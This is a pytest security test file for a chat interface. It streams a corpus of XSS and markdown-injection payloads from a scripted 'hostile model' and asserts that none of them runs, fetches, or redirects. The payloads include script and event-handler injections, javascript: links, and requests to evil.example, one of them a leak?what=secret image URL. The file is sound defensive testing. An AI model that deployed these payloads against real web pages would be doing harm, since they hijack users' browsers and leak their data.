"""A hostile model: nothing that it writes runs, is fetched, or leads somewhere unsafe."""

from __future__ import annotations

import pytest

from tests.browser.tabs import TabMaker
from tests.standins.page_backend import Backend

EVIL = "https://evil.example"
CORPUS = [
    "<script>window.__hit = 1</script>",
    "<img src=x onerror='window.__hit = 1'>",
    f"<img src={EVIL}/pixel.png>",
    "<svg onload='window.__hit = 1'><script>window.__hit = 1</script></svg>",
    "<svg><animate onbegin='window.__hit = 1' attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror='window.__hit = 1'></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.__hit = 1</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    "<a href='javascript:window.__hit = 1'>press</a>",
    "<style>@import url(//evil.example/x.css); body { display: none }</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0; url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input name=a autofocus onfocus='window.__hit = 1'></form>",
    "<details open ontoggle='window.__hit = 1'>x</details>",
    f"<object data={EVIL}/x.swf></object><embed src={EVIL}/x.swf>",
    f"<video src={EVIL}/x.mp4 onerror='window.__hit = 1' autoplay></video>",
    "<div style='position:fixed;inset:0' onclick='window.__hit = 1'>cover</div>",
    "[press](javascript:window.__hit=1)",
    "[press](JaVaScRiPt:window.__hit=1)",
    "[press](java&#x0A;script:window.__hit=1)",
    "[press](data:text/html,<script>window.__hit=1</script>)",
    "[press](vbscript:x)",
    "[press](//evil.example/x)",
    "[press](file:///etc/passwd)",
    "<javascript:window.__hit=1>",
    f"![picture]({EVIL}/picture.png)",
    "![picture](javascript:window.__hit=1)",
    "![picture](data:image/svg+xml,<svg/onload=window.__hit=1>)",
    f"[![picture]({EVIL}/inner.png)]({EVIL}/outer)",
    f"![reference][r]\n\n[r]: {EVIL}/reference.png",
    f"[title]({EVIL} \"x' onmouseover='window.__hit=1\")",
    '[quote](https://a/"onmouseover=window.__hit=1//)\n\n```x" onmouseover="window.__hit=1\ncode\n```',
    "```html\n<script>window.__hit = 1</script>\n<img src=x onerror=window.__hit=1>\n```",
    f"`<img src={EVIL}/code.png>`",
    "&lt;script&gt;window.__hit = 1&lt;/script&gt;",
    "| <img src=x onerror=window.__hit=1> |\n|---|\n| <script>window.__hit=1</script> |",
    "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
    "<template><script>window.__hit=1</script></template><xss-element onclick=x>",
    "\u0000<scr\u0000ipt>window.__hit=1</scr\u0000ipt>",
]

# Elements and attributes that a drawn answer may consist of; buttons and icons are the page's own.
INSPECT = """
() => [...document.querySelectorAll(".markdown *")].flatMap((element) => {
  const name = element.tagName.toLowerCase();
  if (element.closest("svg, button, .code-head")) return [];
  const tags = "a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong " +
    "table tbody td th thead tr ul";
  const attributes = new Set(["class", "href", "rel", "start", "target", "role", "tabindex", "aria-label"]);
  const found = tags.split(" ").includes(name) ? [] : [name];
  for (const one of element.attributes) if (!attributes.has(one.name)) found.push(`${name} ${one.name}`);
  if (name === "a") {
    if (!/^(https?:|mailto:)/.test(element.href)) found.push(`href ${element.href}`);
    if (!element.rel.split(" ").includes("noopener")) found.push("a link without noopener");
  }
  return found;
})
"""


def play(backend: Backend, tab: TabMaker, kind: str, texts: list[str]) -> None:
    """Answer with hostile texts in small pieces, and look at what they became."""
    text = "\n\n".join(texts) + "\n\nThe end."
    backend.script = [{"delta": {kind: text[i : i + 11]}} for i in range(0, len(text), 11)] + [
        {"delta": {"content": "Over."}}
    ]
    one = tab(backend.url)
    page = one.open()
    one.ask("Attack")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.wait_for_timeout(300)  # an onerror or a refresh would need a moment
    assert page.evaluate("window.__hit") is None, "a script of the model ran"
    assert page.evaluate(INSPECT) == []
    for link in page.locator(".markdown a").all():
        assert "javascript" not in (link.get_attribute("href") or "").lower()
    assert page.url == backend.url
    asked = {request.url.split("?")[0] for request in one.requests}
    assert not [url for url in asked if "evil" in url or url.endswith("/x")], asked
    one.reload()
    assert page.evaluate(INSPECT) == []
    assert page.evaluate("window.__hit") is None


@pytest.mark.parametrize("kind", ["content", "reasoning_content"])
def test_hostile_answers_stay_text(scripted: Backend, tab: TabMaker, kind: str) -> None:
    """The whole corpus, as answer and as thinking, while it streams and after a reload."""
    play(scripted, tab, kind, CORPUS)


def test_an_image_becomes_a_link(scripted: Backend, tab: TabMaker) -> None:
    """Its address is shown, never fetched."""
    scripted.script = [{"delta": {"content": f"![a picture]({EVIL}/leak?what=secret)"}}]
    one = tab(scripted.url)
    page = one.open()
    one.ask("Draw")
    link = page.locator(".markdown a")
    assert link.inner_text() == "Image: a picture"
    assert link.get_attribute("href") == f"{EVIL}/leak?what=secret"
    assert page.locator(".markdown img").count() == 0


def test_a_hostile_question_or_title_stays_text(scripted: Backend, tab: TabMaker) -> None:
    """Also in the list of conversations, in the delete button's label and after a reload."""
    one = tab(scripted.url)
    page = one.open()
    question = "<img src=x onerror='window.__hit=1'>\"><b>"
    one.ask(question)
    assert page.inner_text(".bubble") == question
    assert page.locator("#conversations .conversation").inner_text() == question
    one.reload()
    assert page.inner_text(".bubble") == question
    assert page.locator("#shell img, #shell b").count() == 0
    assert page.evaluate("window.__hit") is None


def test_inline_scripts_and_plain_html_are_refused(scripted: Backend, tab: TabMaker) -> None:
    """The fences behind the renderer: should it ever fail, the browser itself refuses."""
    one = tab(scripted.url)
    page = one.open()
    outcome = page.evaluate("""() => {
      const element = document.getElementById("announce");
      try { element.innerHTML = "<b>x</b>"; return "taken"; } catch (error) { return error.name; }
    }""")
    assert outcome == "TypeError"
    page.evaluate("""() => {
      const script = document.createElement("script");
      try { script.textContent = "window.__hit = 1"; document.head.append(script); } catch {}
    }""")
    assert page.evaluate("window.__hit") is None
    assert page.evaluate("window.__violations.length") > 0
    page.evaluate("window.__violations.length = 0")  # provoked here on purpose
    one.complaints.clear()
